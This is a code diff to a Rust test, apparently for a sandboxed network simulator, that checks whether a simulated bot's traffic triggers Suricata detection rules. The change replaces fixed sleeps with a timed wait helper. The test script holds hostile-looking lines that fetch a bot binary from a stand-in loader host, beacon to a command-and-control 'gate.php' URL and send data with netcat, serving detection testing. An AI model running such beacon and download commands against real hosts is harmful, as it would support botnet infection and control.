@@ -12,25 +12,36 @@ use ukai_model::{Behaviour, Class, Ended, Event, Sha256};
 /// What a bot does on the network, by ordinary clients.
 const BOT: &str = "
     curl -sS -m 20 -A Wget/1.1 http://load.example.net/bins/bot.mips >/dev/null
+    start=$(date +%s%3N)
     for n in 1 2 3 4 5 6; do
         curl -sS -m 20 -A 'agent; 1' -d id=7 'http://c2.example.net/gate.php?n=1' >/dev/null
         printf '\\001\\002BOT\";1' | timeout 2 nc -w 1 198.51.100.9 48101 >/dev/null
-        sleep 0.7
+        wait_for $((start + n * 2000))
     done
     true";
+
+/// A bot's clock does not run late on a busy machine: waits until a time in milliseconds.
+const WAIT_FOR: &str = "
+    wait_for() {
+        left=$(($1 - $(date +%s%3N)))
+        [ $left -le 0 ] || sleep $((left / 1000)).$(printf %03d $((left % 1000)))
+    }
+";
 
 #[test]
 fn a_run_becomes_a_report_and_its_rules_fire_in_suricata() {
     in_own_world("internet::behaviour::a_run_becomes_a_report_and_its_rules_fire_in_suricata");
     let mut internet = VirtualInternet::start("");
     let ca = internet.ca();
-    client(&internet, BOT);
+    client(&internet, &[WAIT_FOR, BOT].concat());
     client(
         &internet,
         &format!(
-            "for n in 1 2 3 4 5 6; do
+            "{WAIT_FOR}
+             start=$(date +%s%3N)
+             for n in 1 2 3 4 5 6; do
                  curl -sS -m 20 --cacert {ca} -d id=7 https://tls.example.net/g >/dev/null
-                 sleep 0.7
+                 wait_for $((start + n * 1000))
              done"
         ),
     );
